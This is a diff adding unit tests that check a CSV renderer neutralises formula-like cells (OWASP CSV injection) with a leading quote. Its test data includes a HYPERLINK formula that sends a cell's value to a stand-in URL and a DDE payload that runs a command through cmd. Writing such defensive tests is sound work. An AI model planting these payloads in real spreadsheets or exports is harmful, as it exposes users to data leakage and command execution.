@@ -19,6 +19,37 @@ describe("renderers", () => {
     expect(text).toBe('a,b\r\n1,"x,y"\r\n,"q"""\r\n');
   });
 
+  it.each([
+    ["=", '=HYPERLINK("http://x/?"&A1)', '"\'=HYPERLINK(""http://x/?""&A1)"'],
+    ["+", "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
+    ["-", "-2+3", "'-2+3"],
+    ["@", "@SUM(A1:A9)", "'@SUM(A1:A9)"],
+    ["tab", "\t=1+1", "'\t=1+1"],
+    ["CR", "\r=1+1", '"\'\r=1+1"'],
+  ])(
+    "neutralises a CSV string cell starting with %s by a leading quote (OWASP CSV Injection)",
+    async (_first, cell, expected) => {
+      // Act
+      const text = await readBody(renderCsv([{ note: cell }]));
+      // Assess
+      expect(text).toBe(`note\r\n${expected}\r\n`);
+    },
+  );
+
+  it("neutralises only the formula-like string cells of a row: negative numbers and plain text stay as they are", async () => {
+    // Prepare: a numeric column with negatives, a big integer the adapters hand over as a string
+    const data = [
+      { amount: -5, big: "-9007199254740993", name: "ACME, Inc.", note: "-1+1" },
+      { amount: -0.25, big: "+12", name: "a-b=c", note: "=1+1" },
+    ];
+    // Act
+    const text = await readBody(renderCsv(data));
+    // Assess
+    expect(text).toBe(
+      "amount,big,name,note\r\n-5,-9007199254740993,\"ACME, Inc.\",'-1+1\r\n-0.25,+12,a-b=c,'=1+1\r\n",
+    );
+  });
+
   it("writes a CSV header from given columns even without rows", async () => {
     expect(await readBody(renderCsv([], ["a", "b"]))).toBe("a,b\r\n");
   });
